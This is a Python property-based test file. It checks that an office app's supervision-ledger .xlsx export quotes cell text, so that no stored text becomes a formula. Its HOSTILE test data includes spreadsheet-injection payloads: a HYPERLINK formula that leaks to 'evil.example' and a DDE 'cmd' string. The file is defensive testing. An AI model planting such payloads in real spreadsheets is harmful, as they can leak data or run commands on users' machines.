"""Issue 30, finding 2: every cell of every export from stored text goes through one guard
(`officeflow.exports.cell_text`). Arbitrary text in every text column of the 督办台账 .xlsx
(source reference included) is read back with openpyxl: no cell is a formula or an error
value, and each cell holds the text as the guard shows it."""

from __future__ import annotations

import io
from typing import Any

import pytest
from hypothesis import HealthCheck, Phase, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import select

from models.org import Department, Person
from models.supervision import Assignment, Decision, ProgressReport
from officeflow import board, db
from officeflow.board.export import COLUMNS
from officeflow.exports import MAX_CELL, cell_text
from tests import board_helpers

# The columns written from stored text, by their index in `COLUMNS`.
TEXT_COLUMNS = {
    "title": 1,
    "source_ref": 2,
    "issuer": 3,
    "task": 4,
    "department": 5,
    "owner": 6,
    "note": 13,
}
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak","click")',
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "#N/A",
    "#REF!",
    "'=already quoted",
    "\x07=cmd|' /C calc'!A0",
    "\ufffe",
    "\uffff",
    "_x0041_",
    " =1",
]
# Text the ledger can hold: no NUL (refused at the ledger's door, naming the field) and no lone
# surrogate (no form, file or terminal delivers one).
CHARS = st.characters(exclude_categories=["Cs"], exclude_characters="\x00")
text = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(CHARS, max_size=30),
    st.tuples(
        st.sampled_from(["=", "+", "-", "@", "\t", "\r", "#"]), st.text(CHARS, max_size=10)
    ).map("".join),
)
ERRORS = {"#N/A", "#REF!", "#NAME?", "#DIV/0!", "#VALUE!", "#NUM!", "#NULL!", "#GETTING_DATA"}


def _not_in_xlsx(c: str) -> bool:
    return (ord(c) < 32 and c not in "\t\n\r") or c in "\ufffe\uffff" or 0xD800 <= ord(c) < 0xE000


PROPERTY = settings(
    max_examples=60,
    deadline=None,
    phases=[Phase.explicit, Phase.reuse, Phase.generate],  # a shrink rewrites the ledger often
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@pytest.fixture
def known(make_org: Any) -> dict[str, Any]:
    return board_helpers.build(make_org)


def _write(assignment_id: int, values: dict[str, str]) -> None:
    """Put ``values`` into the stored text behind each column of ``assignment_id``'s row."""
    with db.session_scope() as s:
        a = s.get(Assignment, assignment_id)
        decision = s.get(Decision, a.decision_id)
        decision.title, decision.source_ref = values["title"], values["source_ref"]
        s.get(Person, decision.issued_by).name = values["issuer"]
        a.task = values["task"]
        s.get(Department, a.lead_department_id).name = values["department"]
        s.get(Person, a.owner_id).name = values["owner"]
        report = s.scalar(
            select(ProgressReport)
            .where(ProgressReport.assignment_id == a.id)
            .order_by(ProgressReport.id.desc())
            .limit(1)
        )
        report.note = values["note"]


def test_no_stored_text_becomes_a_formula_in_the_ledger_export(known: dict[str, Any]) -> None:
    green = known["green"]  # an open assignment with progress reports

    @PROPERTY
    @given(st.fixed_dictionaries({name: text for name in TEXT_COLUMNS}))
    @example({name: HOSTILE[0] for name in TEXT_COLUMNS})  # the probe's source_ref
    @example({**{name: "x" for name in TEXT_COLUMNS}, "source_ref": HOSTILE[0]})
    @example({name: "\uffff" for name in TEXT_COLUMNS})
    def check(values: dict[str, str]) -> None:
        _write(green, values)
        with db.read_scope() as s:
            data = board.ledger_workbook(s)
            expected = list(board.ledger_rows(s))
        ws = load_workbook(io.BytesIO(data))["督办台账"]
        cells = list(ws.iter_rows())
        assert [c.value for c in cells[0]] == [name for name, _ in COLUMNS]
        for line in cells:
            for c in line:
                assert c.data_type not in ("f", "e"), (c.coordinate, c.value)
        body = [[c.value if c.value is not None else "" for c in line] for line in cells[1:]]
        assert body == [[("" if v is None else v) for v in r] for r in expected]
        row = next(r for r in body if r[0] == green)
        for name, column in TEXT_COLUMNS.items():
            cell = cells[1 + body.index(row)][column]
            assert cell.data_type in ("s", "inlineStr"), (name, cell.value)  # "" is inline
            if name == "note":
                assert row[column] == cell_text(f"2026-11-17 60% {values['note']}".strip())
            else:
                # The text as the guard shows it: a leading quote only before a formula start.
                # Independently: the text itself, bar characters an .xlsx cannot hold, with at
                # most a quote before it, which is there exactly when it starts like a formula.
                stored = values[name]
                if name == "source_ref" and not stored:
                    stored = "领导批示"  # no reference: the kind of source is shown
                typed = "".join(" " if _not_in_xlsx(c) else c for c in stored)
                quoted = (
                    typed[:1] in ("=", "+", "-", "@", "\t", "\r", "\n") or typed.strip() in ERRORS
                )
                assert row[column] == ("'" + typed if quoted else typed)

    check()


def test_the_guard() -> None:
    assert cell_text("=1+1") == "'=1+1"
    assert cell_text("@SUM(A1)") == "'@SUM(A1)"
    assert cell_text("\t=1") == "'\t=1"
    assert cell_text("#N/A") == "'#N/A"
    assert cell_text("a\x07b") == "a b"
    assert cell_text("x\ufffe\ud800") == "x  "
    assert cell_text("关于冬季安全=生产的批示") == "关于冬季安全=生产的批示"
    assert cell_text(None) == ""
    assert len(cell_text("=" * 40000)) == MAX_CELL
